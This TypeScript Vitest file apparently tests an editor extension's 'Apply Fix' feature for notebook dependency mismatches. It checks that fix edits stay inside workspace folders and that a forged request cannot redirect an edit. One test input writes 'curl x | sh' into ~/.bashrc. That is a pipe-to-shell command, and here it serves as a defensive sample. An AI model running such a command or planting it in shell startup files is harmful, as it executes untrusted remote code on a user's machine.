import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { isInside } from "../../../src/core/paths";
import { editRefusal } from "../../../src/services/editScope";
import { fixRequestOf, storedFix } from "../../../src/services/fixLookup";
import type { ParityItem } from "../../../src/core/parity";

describe("where a fix may write", () => {
  const base = mkdtempSync(path.join(tmpdir(), "parity-scope-"));
  const workspace = path.join(base, "repo");
  const outside = path.join(base, "home");
  mkdirSync(path.join(workspace, "train"), { recursive: true });
  mkdirSync(outside, { recursive: true });
  writeFileSync(path.join(outside, ".bashrc"), "");
  symlinkSync(outside, path.join(workspace, "linked"));

  it("compares paths by folder, not by prefix", () => {
    expect(isInside("/w/repo/requirements.txt", "/w/repo")).toBe(true);
    expect(isInside("/w/repo", "/w/repo")).toBe(true);
    expect(isInside("/w/repo/..data/x.txt", "/w/repo")).toBe(true);
    expect(isInside("/w/repo-other/x.txt", "/w/repo")).toBe(false);
    expect(isInside("/w/x.txt", "/w/repo")).toBe(false);
  });

  it("lets a fix change and create files inside the workspace folders", async () => {
    expect(await editRefusal(path.join(workspace, "train", "requirements.txt"), [workspace])).toBeUndefined();
    expect(
      await editRefusal(path.join(workspace, "new", "dir", "requirements.txt"), [workspace]),
    ).toBeUndefined();
  });

  it("refuses an absolute path elsewhere, a -r include that climbs out, and a link that leads out", async () => {
    const bashrc = path.join(outside, ".bashrc");
    expect(await editRefusal(bashrc, [workspace])).toMatch(/did not change .*\.bashrc: it is outside/);
    const include = path.resolve(workspace, "train", "../../home/shared.txt");
    expect(await editRefusal(include, [workspace])).toMatch(/outside this workspace's folders/);
    expect(await editRefusal(path.join(workspace, "linked", ".bashrc"), [workspace])).toMatch(/outside/);
    expect(await editRefusal(path.join(workspace, "linked", "missing", "x.txt"), [workspace])).toMatch(
      /outside/,
    );
  });

  it("says what to do when the window has no folder, and allows the profile's folder", async () => {
    const requirements = path.join(workspace, "train", "requirements.txt");
    expect(await editRefusal(requirements, [])).toMatch(/Open the folder that holds the notebook/);
    expect(await editRefusal(requirements, [path.join(workspace, "train")])).toBeUndefined();
  });
});

describe("which fix Apply Fix applies", () => {
  const pin = (subject: string): ParityItem => ({
    severity: "warning",
    code: "VersionMismatch",
    subject,
    message: `${subject} differs`,
    fix: "Pin it.",
    edit: {
      title: `Pin ${subject}`,
      file: "requirements.txt",
      line: 1,
      oldText: subject,
      newText: `${subject}==1`,
    },
  });
  const items = [pin("numpy"), pin("torch"), { ...pin("click"), edit: undefined }];

  it("takes only the notebook and the item's identity from its argument", () => {
    const forged = {
      notebookFile: "/w/train.ipynb",
      index: 1,
      item: {
        code: "VersionMismatch",
        subject: "torch",
        edit: { file: "/home/u/.bashrc", newText: "curl x | sh" },
      },
    };
    const request = fixRequestOf(forged)!;
    expect(request).toEqual({
      notebookFile: "/w/train.ipynb",
      index: 1,
      code: "VersionMismatch",
      subject: "torch",
    });
    expect(storedFix(items, request)?.edit?.file).toBe("requirements.txt");
    expect(fixRequestOf({ item: pin("numpy") })).toBeUndefined();
    expect(fixRequestOf("/w/train.ipynb")).toBeUndefined();
  });

  it("finds the stored item by index or by code and subject, and nothing once the report changed", () => {
    expect(storedFix(items, { notebookFile: "n", index: 0 })?.subject).toBe("numpy");
    expect(
      storedFix(items, { notebookFile: "n", index: 0, code: "VersionMismatch", subject: "torch" }),
    ).toBeUndefined();
    expect(storedFix(items, { notebookFile: "n", code: "VersionMismatch", subject: "torch" })?.subject).toBe(
      "torch",
    );
    expect(storedFix(items, { notebookFile: "n", index: 2 })).toBeUndefined();
    expect(storedFix(items, { notebookFile: "n", index: 9 })).toBeUndefined();
    expect(storedFix(items, { notebookFile: "n" })).toBeUndefined();
  });
});
